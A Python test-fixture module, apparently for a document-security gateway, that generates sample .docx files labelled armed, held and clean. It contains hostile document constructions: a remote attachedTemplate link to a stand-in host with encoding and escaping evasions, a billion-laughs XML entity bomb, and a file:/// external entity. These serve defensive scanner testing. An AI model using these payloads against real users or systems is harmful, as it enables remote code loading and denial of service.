from gateway import samples
from gateway.samples.package import OFFICE, parts_of, relations
from tests.makers.links import docx_with

LINK = relations((f"{OFFICE}/attachedTemplate", "http://host.example/t.dotm"), external=True)
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
BODY = parts_of(samples.docx())["word/document.xml"].decode()
LOL = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "lol">{LOL}]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///inert">]>'


def with_link(raw: bytes) -> bytes:
    return docx_with({"word/_rels/settings.xml.rels": raw})


def again(encoding: str, name: str) -> bytes:
    return LINK.replace("UTF-8", name).encode(encoding)


def deep(levels: int) -> str:
    return LINK.replace("</Relationships>", "<a>" * levels + "</a>" * levels + "</Relationships>")


FILES = {
    "armed-utf-16.docx": lambda: with_link(again("utf-16", "UTF-16")),
    "armed-latin-1.docx": lambda: with_link(again("latin-1", "ISO-8859-1")),
    "armed-mark.docx": lambda: with_link(again("utf-8-sig", "UTF-8")),
    "armed-escaped.docx": lambda: with_link(LINK.replace("http", "&#x68;ttp").encode()),
    "armed-deep.docx": lambda: with_link(deep(5000).encode()),
    "armed-long-attribute.docx": lambda: with_link(LINK.replace("Id=", f'a="{"x" * 200_000}" Id=').encode()),
    "held-bomb.docx": lambda: docx_with({"word/document.xml": BODY.replace(HEAD, HEAD + BOMB)}),
    "held-bomb-in-links.docx": lambda: with_link(LINK.replace(HEAD, HEAD + BOMB).encode()),
    "held-utf-7.docx": lambda: with_link(again("utf-7", "UTF-7")),
    "held-another-alphabet.docx": lambda: with_link(again("cp037", "cp037")),
    "held-wrong-mark.docx": lambda: with_link(b"\xff\xfe" + LINK.encode()),
    "held-breaks-off.docx": lambda: with_link(LINK.encode()[:-30]),
    "clean-utf-16.docx": lambda: docx_with({"word/document.xml": BODY.replace("UTF-8", "UTF-16").encode("utf-16")}),
    "clean-mark.docx": lambda: docx_with({"word/document.xml": BODY.encode("utf-8-sig")}),
    "clean-comment.docx": lambda: docx_with({"word/document.xml": BODY.replace(HEAD, HEAD + "<!-- DDE -->")}),
    "armed-entity-outside.docx": lambda: with_link(LINK.replace(HEAD, HEAD + OUTSIDE).encode()),
}
